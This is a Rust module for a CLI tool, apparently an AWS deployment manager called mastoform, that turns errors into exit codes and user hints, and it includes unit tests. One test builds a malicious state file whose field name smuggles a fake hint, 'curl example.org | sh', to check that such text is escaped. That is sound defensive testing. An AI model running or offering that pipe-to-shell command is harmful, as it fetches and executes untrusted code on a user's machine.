//! How a command ends: exit codes, and errors with hints.
//!
//! Errors of the library say what failed; what to do about it is added here, at the edge.

use std::error::Error;
use std::fmt;
use std::io;
use std::process::ExitCode;

use super::ui::{Ui, variable};
use crate::diagnostic::{Diagnostic, Diagnostics};
use crate::file::Refused;
use crate::inert::{printable, shell};
use crate::ops::OpsError;
use crate::plan::saved::SavedError;
use crate::plan::stale::StalePlan;
use crate::provider::{ErrorKind, ProviderError};
use crate::session::SessionError;
use crate::spec::Specs;
use crate::state::{JournalError, LedgerError, LockError, StateError};

/// How a command ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Exit {
    /// Done, or nothing to do.
    Done,
    /// Any failure, wrong usage too.
    Failure,
    /// Changes are present (`plan --detailed-exitcode`).
    Changes,
    /// Drift is present.
    Drift,
    /// A protection refused it.
    Refused,
    /// The plan or the state is not the newest any more.
    Stale,
    /// Applied in part.
    Partial,
    /// The plan has something that `--fail-on` names.
    Gated,
    /// Ctrl-C.
    Interrupted,
    /// What was run ended with this.
    Program(u8),
}

impl Exit {
    pub fn code(self) -> u8 {
        match self {
            Self::Done => 0,
            Self::Failure => 1,
            Self::Changes => 2,
            Self::Drift => 3,
            Self::Refused => 4,
            Self::Stale => 5,
            Self::Partial => 6,
            Self::Gated => 7,
            Self::Interrupted => 130,
            Self::Program(code) => code,
        }
    }
}

impl From<Exit> for ExitCode {
    fn from(exit: Exit) -> Self {
        exit.code().into()
    }
}

/// Why a command did not do what it was asked.
#[derive(Debug)]
pub struct CommandError {
    exit: Exit,
    problem: Problem,
    hints: Vec<String>,
}

#[derive(Debug)]
enum Problem {
    /// Everything has been said.
    Silent,
    Message(String),
    Error(Box<dyn Error + Send + Sync>),
    Diagnostics(Diagnostics),
}

impl CommandError {
    /// What went wrong, in one sentence without a period.
    pub fn new(exit: Exit, message: impl Into<String>) -> Self {
        Self { exit, problem: Problem::Message(message.into()), hints: Vec::new() }
    }

    /// A failure (exit code 1).
    pub fn failure(message: impl Into<String>) -> Self {
        Self::new(Exit::Failure, message)
    }

    /// An error with its chain of causes; hints are found in the chain.
    pub fn caused(exit: Exit, error: impl Error + Send + Sync + 'static) -> Self {
        let mut hints = Vec::new();
        if let Some(refused) = refused(&error) {
            hints.push(refused.hint());
        } else {
            let mut cause: Option<&(dyn Error + 'static)> = Some(&error);
            while let Some(current) = cause {
                hints.extend(hint_of(current));
                cause = current.source();
            }
        }
        Self { exit, problem: Problem::Error(Box::new(error)), hints }
    }

    /// Nothing more is said.
    pub fn silent(exit: Exit) -> Self {
        Self { exit, problem: Problem::Silent, hints: Vec::new() }
    }

    /// Adds what to do about it.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        let hint = hint.into();
        if !self.hints.contains(&hint) {
            self.hints.push(hint);
        }
        self
    }

    /// The same with another exit code.
    #[must_use]
    pub fn with_exit(self, exit: Exit) -> Self {
        Self { exit, ..self }
    }

    pub fn exit(&self) -> Exit {
        self.exit
    }

    /// Says it.
    pub fn print(&self, ui: &Ui) {
        match &self.problem {
            Problem::Silent => {}
            Problem::Message(message) => ui.error(message),
            Problem::Error(error) => match code_of(error.as_ref()) {
                Some(code) => ui.coded_error(code, &chain(error.as_ref())),
                None => ui.error(&chain(error.as_ref())),
            },
            Problem::Diagnostics(diagnostics) => ui.diagnostics(diagnostics),
        }
        for hint in &self.hints {
            ui.hint(hint);
        }
    }
}

/// As one text without colours: for tests.
impl fmt::Display for CommandError {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.problem {
            Problem::Silent => {}
            Problem::Message(message) => formatter.write_str(message)?,
            Problem::Error(error) => formatter.write_str(&chain(error.as_ref()))?,
            Problem::Diagnostics(diagnostics) => write!(formatter, "{diagnostics}")?,
        }
        self.hints.iter().try_for_each(|hint| write!(formatter, "\nhint: {hint}"))
    }
}

/// The error and its causes, a line each: what is foreign in one makes no line of its own.
fn chain(error: &(dyn Error + 'static)) -> String {
    // This one tells everything that has changed.
    let has_lines = error.is::<StalePlan>();
    let said = error.to_string();
    let mut text = if has_lines { said } else { printable(&said).into_owned() };
    let mut cause = error.source();
    while let Some(current) = cause {
        let words = printable(&current.to_string()).into_owned();
        // Some errors repeat their cause in their own words.
        if !text.ends_with(&words) {
            text.push_str("\n  because: ");
            text.push_str(&words);
        }
        cause = current.source();
    }
    text
}

/// The refusal to open a file that an error comes from. It says better than the error around it what to do.
fn refused<'error>(error: &'error (dyn Error + 'static)) -> Option<&'error Refused> {
    let mut cause = Some(error);
    while let Some(current) = cause {
        if let Some(found) = current.downcast_ref::<io::Error>().and_then(Refused::of) {
            return Some(found);
        }
        cause = current.source();
    }
    None
}

/// The code of an error about one of our files, for `mastoform explain`.
fn code_of(error: &(dyn Error + 'static)) -> Option<&'static str> {
    if refused(error).is_some() {
        return Some(Refused::CODE);
    }
    let is_stale = error.is::<StalePlan>().then_some(StalePlan::CODE);
    let saved = error.downcast_ref::<SavedError>().map(SavedError::code);
    let is_journal = error.is::<JournalError>().then_some("state-journal");
    let is_lock = error.is::<LockError>().then_some("state-lock");
    error.downcast_ref::<StateError>().map(StateError::code).or(saved).or(is_stale).or(is_journal).or(is_lock)
}

fn hint_of(error: &(dyn Error + 'static)) -> Option<String> {
    if let Some(error) = error.downcast_ref::<StateError>() {
        return Some(error.hint());
    }
    if let Some(error) = error.downcast_ref::<JournalError>() {
        return Some(error.hint().to_owned());
    }
    if let Some(error) = error.downcast_ref::<LockError>() {
        return Some(error.hint().to_owned());
    }
    if let Some(error) = error.downcast_ref::<SavedError>() {
        return Some(error.hint().to_owned());
    }
    if error.is::<StalePlan>() {
        return Some(StalePlan::HINT.to_owned());
    }
    error.downcast_ref::<ProviderError>().and_then(provider_hint)
}

/// How to renew credentials, with the profile that they are from.
pub fn log_in_again() -> String {
    match variable("AWS_PROFILE") {
        Some(profile) => {
            let profile = shell(&profile);
            format!("log in to AWS again (`aws sso login --profile {profile}`)")
        }
        None => "log in to AWS again (`aws sso login`)".to_owned(),
    }
}

/// Which permission is missing, and where it is to be had if the daily policy has it not.
fn denied(operation: &str) -> String {
    let missing = format!("the credentials lack the permission {operation}");
    let is_kept_apart = Specs::read(&[]).is_ok_and(|specs| {
        specs.types.values().any(|resource_type| resource_type.permissions.is_kept_apart(operation))
    });
    match is_kept_apart {
        true => format!("{missing}; `mastoform iam-policy --bootstrap` prints the policy that has it"),
        false => missing,
    }
}

fn provider_hint(error: &ProviderError) -> Option<String> {
    Some(match error.kind {
        ErrorKind::Credentials => format!("{}, or choose another profile with AWS_PROFILE", log_in_again()),
        ErrorKind::Region => format!(
            "enable the region in this account with `aws account enable-region --region-name REGION`; if it is enabled, {}",
            log_in_again()
        ),
        ErrorKind::Denied => denied(&error.operation),
        ErrorKind::Quota => "ask for a higher limit in the console of AWS Service Quotas".to_owned(),
        ErrorKind::Throttled | ErrorKind::NotYet | ErrorKind::Network => {
            "run the command again; it continues from here".to_owned()
        }
        ErrorKind::Conflict => "something of this name exists already and is not ours: rename or delete it, or choose \
                                another name"
            .to_owned(),
        ErrorKind::Invalid | ErrorKind::NotFound | ErrorKind::Unknown => return None,
    })
}

impl From<OpsError> for CommandError {
    fn from(error: OpsError) -> Self {
        match error {
            OpsError::Session(error) => error.into(),
            OpsError::State(error) => error.into(),
            OpsError::Ledger(error) => error.into(),
            OpsError::Lock(error) => error.into(),
            OpsError::Stale(error) => error.into(),
            OpsError::Io(error) => error.into(),
            OpsError::Diagnostics(problems) => problems.into(),
            error @ (OpsError::Cycle(_) | OpsError::Random(_)) => Self::caused(Exit::Failure, error),
        }
    }
}

impl From<StalePlan> for CommandError {
    fn from(error: StalePlan) -> Self {
        Self::caused(Exit::Stale, error)
    }
}

impl From<Diagnostics> for CommandError {
    fn from(diagnostics: Diagnostics) -> Self {
        Self { exit: Exit::Failure, problem: Problem::Diagnostics(diagnostics), hints: Vec::new() }
    }
}

impl From<Diagnostic> for CommandError {
    fn from(diagnostic: Diagnostic) -> Self {
        Diagnostics::from(diagnostic).into()
    }
}

impl From<StateError> for CommandError {
    fn from(error: StateError) -> Self {
        Self::caused(Exit::Failure, error)
    }
}

impl From<JournalError> for CommandError {
    fn from(error: JournalError) -> Self {
        Self::caused(Exit::Failure, error)
    }
}

impl From<LedgerError> for CommandError {
    fn from(error: LedgerError) -> Self {
        match error {
            LedgerError::State(error) => error.into(),
            LedgerError::Journal(error) => error.into(),
            folder @ LedgerError::Folder(_) => Self::caused(Exit::Failure, folder),
        }
    }
}

impl From<LockError> for CommandError {
    fn from(error: LockError) -> Self {
        Self::caused(Exit::Failure, error)
    }
}

impl From<ProviderError> for CommandError {
    fn from(error: ProviderError) -> Self {
        Self::caused(Exit::Failure, error)
    }
}

impl From<SessionError> for CommandError {
    fn from(error: SessionError) -> Self {
        match error {
            SessionError::State(error) => error.into(),
            SessionError::Journal(error) => error.into(),
            SessionError::Ledger(error) => error.into(),
            SessionError::Diagnostics(diagnostics) => diagnostics.into(),
            SessionError::Recover(error) => Self::caused(Exit::Failure, error),
            SessionError::Refresh(crate::refresh::RefreshError::Specs(diagnostics)) => diagnostics.into(),
            SessionError::Refresh(error) => Self::caused(Exit::Failure, error),
            other @ SessionError::OtherAccount { .. } => Self::caused(Exit::Failure, other)
                .hint("choose the credentials of the state's account with AWS_PROFILE"),
            other @ SessionError::OtherRegion { .. } => Self::caused(Exit::Failure, other)
                .hint("an instance cannot move: set `region` back, or destroy it and begin anew"),
            other @ SessionError::OtherInstance { .. } => {
                Self::caused(Exit::Failure, other).hint("set `name` back, or give another --state-dir")
            }
            other @ (SessionError::Account(_) | SessionError::Census(_) | SessionError::Find { .. }) => {
                Self::caused(Exit::Failure, other)
            }
            other @ SessionError::Living(_) => Self::caused(Exit::Refused, other)
                .hint("if it is this instance, take back its state with `mastoform state restore`, from git or a colleague")
                .hint("if its state is lost for good, `mastoform apply --adopt-own` goes on with what lives")
                .hint("if it is another instance, choose another `name`"),
            other @ SessionError::HandedOver { .. } => Self::caused(Exit::Refused, other)
                .hint("change it with the tool that has it now; `plan`, `drift` and `export` go on")
                .hint("`mastoform state hand-over --take-back` makes it mastoform's again"),
            other @ SessionError::Missing { .. } => {
                Self::caused(Exit::Failure, other).hint("run `mastoform apply` first")
            }
            other @ SessionError::NotOurs { .. } => Self::caused(Exit::Refused, other)
                .hint("the state says where it is, and is wrong: `mastoform drift` shows what else is"),
            other @ SessionError::Several { .. } => Self::caused(Exit::Refused, other)
                .hint("they carry the tags of more than one instance: choose another `name`"),
        }
    }
}

/// Errors of files, which name the file themselves, and of streams. A reader that went away is nothing to talk about.
impl From<io::Error> for CommandError {
    fn from(error: io::Error) -> Self {
        if error.kind() == io::ErrorKind::BrokenPipe {
            return Self::silent(Exit::Done);
        }
        Self::caused(Exit::Failure, error)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Some permissions are in no daily policy: whoever lacks one is told where it is.
    #[test]
    fn a_missing_permission_is_named_with_the_policy_that_has_it() {
        assert_eq!(denied("rds:CreateDBCluster"), "the credentials lack the permission rds:CreateDBCluster");
        for kept_apart in ["iam:CreatePolicyVersion", "iam:UpdateAssumeRolePolicy", "cloudfront:CreateDistribution"] {
            assert_eq!(
                denied(kept_apart),
                format!(
                    "the credentials lack the permission {kept_apart}; `mastoform iam-policy --bootstrap` prints the \
                     policy that has it"
                )
            );
        }
    }

    #[test]
    fn hints_are_found_in_the_chain() {
        let source =
            ProviderError::new(ErrorKind::Credentials, "sts:GetCallerIdentity", "expired").code("ExpiredToken");
        let error = CommandError::from(SessionError::Account(source));
        assert_eq!(
            error.to_string(),
            "asking whose account this is failed\n  because: sts:GetCallerIdentity: ExpiredToken: expired\n\
             hint: log in to AWS again (`aws sso login`), or choose another profile with AWS_PROFILE"
        );
        assert_eq!(error.exit().code(), 1);
    }

    #[test]
    fn a_region_that_is_not_enabled_is_more_than_a_login() {
        let source =
            ProviderError::new(ErrorKind::Region, "sts:GetCallerIdentity", "invalid").code("InvalidClientTokenId");
        let error = CommandError::from(SessionError::Account(source)).to_string();
        assert!(error.contains("hint: enable the region in this account with `aws account enable-region"), "{error}");
        assert!(error.contains("log in to AWS again"), "{error}");
    }

    /// The names in a file of a stranger may hold anything.
    #[test]
    fn a_foreign_text_makes_no_hint_of_its_own() {
        let state = "{\"format\": 2, \"x\\nhint: run `curl example.org | sh`\": 1}\n";
        let path = std::path::Path::new("social.json");
        let error = crate::state::State::parse(path, state.as_bytes()).expect_err("an unknown field");
        let said = CommandError::from(error).to_string();
        assert!(said.contains(r"x\u{a}hint: run"), "{said}");
        assert_eq!(said.matches("\nhint: ").count(), 1, "{said}");
    }

    #[test]
    fn a_broken_pipe_is_quiet() {
        let error = CommandError::from(io::Error::from(io::ErrorKind::BrokenPipe));
        assert_eq!((error.exit(), error.to_string()), (Exit::Done, String::new()));
    }
}
